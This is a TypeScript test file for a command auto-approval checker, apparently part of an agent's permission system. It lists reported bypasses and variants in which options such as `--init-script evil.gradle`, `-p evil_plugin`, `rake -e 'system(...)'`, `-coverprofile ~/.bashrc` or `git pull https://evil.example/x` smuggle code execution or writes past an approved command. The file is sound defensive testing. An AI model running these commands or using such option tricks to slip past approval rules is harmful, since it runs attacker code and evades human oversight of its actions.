// Unknown options are part of the signature: an option word a program's table does not list as inert
// joins the signature verbatim (with the word after it, which may be its value), before and after the
// subcommand, so a rule made from an everyday command never approves the same command with an option
// that loads code, changes the folder or writes elsewhere. Each case was approved before this rule.
import * as assert from 'node:assert/strict';
import { check } from './helpers/approvalCheck';


function refused(cases: Array<[string, string[], RegExp]>): void {
  for (const [command, always, reason] of cases) {
    it(`${command} is not approved under ${JSON.stringify(always)}`, () => {
      const result = check(command, always);
      assert.equal(result.autoApproved, false, result.reason);
      assert.match(result.reason, reason);
    });
  }
}

describe('command signatures: unknown options are part of the signature', () => {
  describe('the reported bypasses', () => {
    refused([
      ['npm run build --prefix ../evil', ['npm run build'], /`npm run build --prefix \.\.\/evil` is not allowed/],
      ['gradle test --init-script evil.gradle', ['gradle test'], /`gradle test --init-script` runs the init script it names/],
      ["rake test -e 'system(\"id\")'", ['rake test'], /`rake test -e` runs code given on its command line/],
      ['uv run --python ./x pytest', ['uv run pytest'], /`uv run --python \.\/x pytest` is not allowed/],
      ['git --attr-source HEAD status', ['git status'], /`git --attr-source HEAD status` is not allowed/],
      ['go build -o /usr/local/bin ./cmd/git', ['go build ./cmd/git'], /`go build -o \/usr\/local\/bin` is not allowed/],
    ]);
  });

  describe('variants of each, across the common programs', () => {
    refused([
      ['npm run build --prefix=../evil', ['npm run build'], /`npm run build --prefix=\.\.\/evil` is not allowed/],
      ['npm test --workspace ../evil', ['npm test'], /`npm test --workspace \.\.\/evil` is not allowed/],
      ['npm test --frobnicate=x', ['npm test'], /`npm test --frobnicate=x` is not allowed/],
      ['pnpm test --dir ../evil', ['pnpm test'], /`pnpm test --dir \.\.\/evil` is not allowed/],
      ['yarn build --cwd ../evil', ['yarn build'], /`yarn build --cwd \.\.\/evil` is not allowed/],
      ['npx --frob jest', ['npx jest'], /`npx --frob` is an option these rules do not know, so where the command it runs starts is not known/],
      ['gradle test -I evil.gradle', ['gradle test'], /`gradle test -I` runs the init script/],
      ['gradle test --build-file evil.gradle', ['gradle test'], /`gradle test --build-file` runs the build file/],
      ['gradle -c evil.gradle test', ['gradle test'], /`gradle -c` reads the settings script/],
      ['gradle test clean', ['gradle test'], /`gradle test clean` is not allowed/],
      ['mvn test -s evil.xml', ['mvn test'], /`mvn test -s` reads a configuration file/],
      ['mvn -f ../evil/pom.xml test', ['mvn test'], /`mvn -f \.\.\/evil\/pom.xml test` is not allowed/],
      ['rake test -rx', ['rake test'], /`rake test -r` loads code/],
      ['rake test --exec=x', ['rake test'], /`rake test --execute` runs code/],
      ['rake -f evil.rake test', ['rake test'], /`rake -f` runs the tasks of the Rakefile it names/],
      ['rake test RUBYOPT=-revil', ['rake test'], /`rake test RUBYOPT=-revil` is not allowed/],
      ['uv run -p ./x pytest', ['uv run pytest'], /`uv run -p \.\/x pytest` is not allowed/],
      ['uv run --python=./x pytest', ['uv run pytest'], /`uv run --python=\.\/x pytest` is not allowed/],
      ['uvx --python ./x ruff', ['uvx ruff'], /`uvx --python \.\/x ruff` is not allowed/],
      ['git --attr-source=HEAD status', ['git status'], /`git --attr-source=HEAD status` is not allowed/],
      ['git --frob log', ['git log'], /`git --frob log` is not allowed/],
      ['git log --frobnicate x', ['git log'], /`git log --frobnicate x` is not allowed/],
      ['git status --porcelain=v2 --zzz', ['git status'], /`git status --zzz` is not allowed/],
      ['go build -o=/usr/local/bin/git ./cmd/git', ['go build ./cmd/git'], /`go build -o=\/usr\/local\/bin\/git` is not allowed/],
      ['go build --o /usr/local/bin ./cmd/git', ['go build ./cmd/git'], /`go build --o \/usr\/local\/bin` is not allowed/],
      ['go test -ldflags=-extld=./evil ./...', ['go test ./...'], /`go test -ldflags=-extld=\.\/evil` is not allowed/],
      ['go test -coverprofile ~/.bashrc ./...', ['go test ./...'], /is not allowed/],
      ['go vet -vettool=./evil ./...', ['go vet ./...'], /`go vet -vettool` runs the program it names as the vet tool/],
      ['npm run build --prefix', ['npm run build'], /`npm run build --prefix` is not allowed/],
      ['cargo build --target-dir /tmp/x', ['cargo build'], /`cargo build --target-dir \/tmp\/x` is not allowed/],
      ['cargo test --frobnicate', ['cargo test'], /`cargo test --frobnicate` is not allowed/],
      ['cargo build --target ./evil.json', ['cargo build --target x86_64-unknown-linux-gnu'], /`cargo build --target \.\/evil.json` is not allowed/],
      ['cargo +./evil-toolchain test', ['cargo test'], /`cargo \+\.\/evil-toolchain test` is not allowed/],
      ['git pull https://evil.example/x main', ['git pull'], /`git pull https:\/\/evil.example\/x main` is not allowed/],
      ['make test install', ['make test'], /`make test install` is not allowed/],
      ['make -j install', ['make'], /`make install` is not allowed/],
      ['make test -I /tmp/evil', ['make test'], /`make test -I \/tmp\/evil` is not allowed/],
      ['python -m pytest -p evil_plugin', ['python -m pytest'], /`python -m pytest -p` loads the plugin module it names/],
      ['python -m pytest -pevil_plugin', ['python -m pytest'], /`python -m pytest -p` loads the plugin/],
      ['pytest -c evil.ini', ['pytest'], /`pytest -c` reads a configuration file/],
      ['pytest -o addopts=-pevil', ['pytest'], /`pytest -o` overrides configuration/],
      ['pytest --override-ini=addopts=-pevil', ['pytest'], /`pytest --override-ini` overrides configuration/],
      ['python -m pytest --rootdir=/tmp/x', ['python -m pytest'], /`python -m pytest --rootdir=\/tmp\/x` is not allowed/],
      ['python -m unittest --frob', ['python -m unittest'], /`python -m unittest --frob` is not allowed/],
      ['docker --config /tmp/x ps', ['docker ps'], /`docker --config` reads a configuration folder that can name credential helper programs/],
      ['docker -H ssh://prod ps', ['docker ps'], /`docker -H ssh:\/\/prod ps` is not allowed/],
      ['docker ps --frob', ['docker ps'], /`docker ps --frob` is not allowed/],
      ['kubectl get pods --context prod', ['kubectl get pods'], /`kubectl get pods --context prod` is not allowed/],
      ['kubectl get pods --kubeconfig=/tmp/k', ['kubectl get'], /`kubectl get --kubeconfig` reads a kubeconfig/],
      ['helm template x --post-renderer ./evil', ['helm template x'], /`helm template --post-renderer` runs the program it names/],
      ['git merge -s evil main', ['git merge main'], /`git merge -s evil main` is not allowed/],
      ['grep --zzz=*.ts foo', ['grep'], /`grep '--zzz=\*\.ts'` is a pattern bash expands/],
      ['ls --zzz', ['ls'], /`ls --zzz` is not allowed/],
      ['grep --zzz=1 foo src', ['grep'], /`grep --zzz=1` is not allowed/],
      ['rg -n --zzz foo', ['rg'], /`rg --zzz foo` is not allowed/],
      ['wc -l -Q x', ['wc'], /`wc -Q x` is not allowed/],
    ]);
  });

  describe('an abbreviation of an inert option is signed verbatim unless the table is complete', () => {
    it('`git log --onel` is not `git log --oneline` to the rules (an unlisted option may share the prefix)', () => {
      assert.deepEqual(check('git log --onel', ['git log']).signatures, ['git log --onel']);
    });
  });
});
